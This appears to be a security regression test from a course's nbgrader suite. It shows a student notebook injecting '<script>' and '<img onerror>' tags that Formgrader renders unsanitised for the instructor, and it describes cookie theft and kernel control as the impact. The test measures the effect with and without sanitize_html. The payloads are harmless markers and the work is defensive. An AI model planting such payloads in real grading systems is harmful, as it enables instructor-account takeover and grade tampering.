"""Script in a markdown cell and an HTML output of the student's own: Formgrader shows them to the instructor as they are.

WON (class 6: student-controlled HTML, on the instructor's nbgrader path): the instructor who
opens the submission in Formgrader (manual grading, /formgrader/submissions/<id>) runs the
student's script in the Jupyter server's origin, where it can read the ``_xsrf`` cookie and
drive the server's API (start a kernel, run code as the instructor, rewrite the gradebook).

All eight functions are honest. A markdown cell after the title holds ``<script>`` and
``<img src=x onerror=...>``; the zero_pad cell displays the same as ``IPython.display.HTML``.
`make grade`'s pages never render a cell (markup-everywhere, in the suite, checks they escape
every message), but the graded notebook keeps the student's markdown and the outputs of their
own cells, and Formgrader renders it with nbconvert's HTMLExporter
(nbgrader/server_extensions/formgrader/formgrader.py: ``HTMLExporter(config=self.config)``),
whose ``sanitize_html`` is False unless configured. nbgrader's own ``generate_feedback`` renders
the markdown too (measured: one ``<script>`` and one ``<img onerror>`` in its page; the output,
after the first grade cell, is hidden by ShowNoOutputOnceGradingBegan): the student's own page,
which the instructor may open.

Measured (``python tests/attacks_pending/formgrader_script.py``): Formgrader's rendering of the
graded notebook holds 2 ``<script>`` and 2 ``<img ... onerror=...>`` tags as the student wrote
them; with ``c.HTMLExporter.sanitize_html = True`` in nbgrader_config.py, none (nbconvert cleans
markdown and HTML outputs).

Root cause: nbgrader_config.py does not set ``c.HTMLExporter.sanitize_html = True``, which both
Formgrader's exporter and generate_feedback's read; the project's protections cover
`make grade`'s own pages only. A fix: set it (and check the rendering in test_browser_instructor).

Reproduce:

    .venv/bin/python tests/attacks_pending/formgrader_script.py

It grades this submission between the two honest students in a temporary course (as
tests/test_attacks.py does), renders the graded notebook as Formgrader does, and prints the
tags found, then the same with sanitize_html on.
Without protection: the same (nbgrader's default).
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
MUST_EARN = EXPECT
MARK = "cnnattack_formgrader_script"
SCRIPT = f'<script>/*{MARK}*/document.title="pwned"</script>'
IMG = f'<img src=x onerror="/*{MARK}*/alert(1)">'
APPEND = {"zero_pad": f'''
from IPython.display import HTML as _HTML, display as _display
_display(_HTML({(SCRIPT + IMG)!r}))
'''}


def EDIT(nb):
    import nbformat
    nb.cells.insert(1, nbformat.v4.new_markdown_cell(f"# {MARK}\n\n{SCRIPT}\n\n{IMG}\n"))


def rendered_tags(course_root, student, sanitize=False):
    """(scripts, img onerror tags) of the student's graded notebook as Formgrader renders it."""
    import re
    import sys

    from nbconvert.exporters import HTMLExporter
    from traitlets.config.loader import PyFileConfigLoader

    sys.path.insert(0, str(course_root))  # the course's config imports its grading package
    config = PyFileConfigLoader("nbgrader_config.py", path=str(course_root)).load_config()
    if sanitize:
        config.HTMLExporter.sanitize_html = True
    page, _ = HTMLExporter(config=config).from_filename(
        str(course_root / "autograded" / student / "cnn_step_by_step" / "cnn_step_by_step.ipynb"))
    return (len(re.findall(re.escape(f"<script>/*{MARK}*/"), page)),
            len(re.findall(rf"<img [^>]*onerror=\"/\*{MARK}\*/[^>]*>", page)))


if __name__ == "__main__":
    import shutil
    import sys
    import tempfile
    from pathlib import Path

    tests = Path(__file__).resolve().parent.parent
    sys.path[:0] = [str(tests.parent), str(tests)]
    import attacks
    from conftest import generated_course

    attack = attacks.Attack(name="formgrader-script", doc=__doc__, answers={}, expect=EXPECT, append=APPEND,
                            edit=EDIT, must_earn=MUST_EARN)
    folder = Path(tempfile.mkdtemp(prefix="cnnatk-formgrader-"))
    try:
        (folder / "home").mkdir()
        course = generated_course(folder / "course")
        listener = attacks.Listener()
        try:
            attacks.write_class(course, [attack], listener.port)
            run = attacks.run_grader(course, folder / "home", 600)
        finally:
            listener.close()
            attacks.kill_leftovers(course.root)
        print("grading: return code", run.returncode, {s: course.scores().get(s, {}).get("total") for s in run.graded})
        print("Formgrader's page: (<script>, <img onerror>) as written:", rendered_tags(course.root, attack.name))
        print("with c.HTMLExporter.sanitize_html = True:", rendered_tags(course.root, attack.name, sanitize=True))
    finally:
        shutil.rmtree(folder, ignore_errors=True)
